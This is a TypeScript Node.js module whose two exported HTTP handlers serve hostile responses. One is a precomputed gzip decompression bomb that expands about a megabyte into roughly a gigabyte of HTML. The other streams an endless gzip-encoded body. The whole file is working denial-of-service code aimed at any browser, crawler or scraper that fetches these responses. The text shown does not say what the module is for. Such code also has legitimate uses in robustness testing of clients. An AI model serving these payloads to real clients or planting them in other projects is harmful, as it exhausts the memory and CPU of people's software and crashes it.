/** Two responses made to hurt, as gzip that is made once and sent again and again: a gigabyte in a megabyte, and a body without an end. */
import type { ServerResponse } from 'node:http'
import { constants, crc32, deflateRawSync } from 'node:zlib'

const HEAD = Buffer.from('<!doctype html><html><head><title>Hostile</title><style>')
const GZIP_HEADER = Buffer.from('1f8b0800000000000003', 'hex')
const BLOCK_BYTES = 16_777_216
const BLOCKS = 64
const HEADERS = {
  'Content-Type': 'text/html; charset=utf-8',
  'Content-Encoding': 'gzip',
  Connection: 'close',
}

/** Raw deflate that can be followed by more of it. */
const flushed = (bytes: Buffer, level: number) =>
  deflateRawSync(bytes, { level, finishFlush: constants.Z_FULL_FLUSH })

function bomb(): Buffer {
  const spaces = Buffer.alloc(BLOCK_BYTES, ' ')
  const block = flushed(spaces, 9)
  let check = crc32(HEAD)
  for (let at = 0; at < BLOCKS; at += 1) check = crc32(spaces, check)
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(check, 0)
  trailer.writeUInt32LE((HEAD.length + BLOCK_BYTES * BLOCKS) % 4_294_967_296, 4)
  const blocks = Array.from({ length: BLOCKS }, () => block)
  return Buffer.concat([GZIP_HEADER, flushed(HEAD, 9), ...blocks, deflateRawSync(Buffer.alloc(0)), trailer])
}

let bombOnce: Buffer | null = null

export function sendBomb(response: ServerResponse): void {
  bombOnce ??= bomb()
  response.writeHead(200, { ...HEADERS, 'Content-Length': bombOnce.length }).end(bombOnce)
}

/** Uncompressed inside its gzip, as fast as the reader takes it. */
export function sendForEver(response: ServerResponse): void {
  const block = flushed(Buffer.alloc(65_536, 'a{}'), 0)
  response.writeHead(200, HEADERS)
  response.write(Buffer.concat([GZIP_HEADER, flushed(HEAD, 0)]))
  const more = () => {
    while (!response.destroyed && response.write(block)) continue
  }
  response.on('drain', more).on('error', () => {})
  more()
}
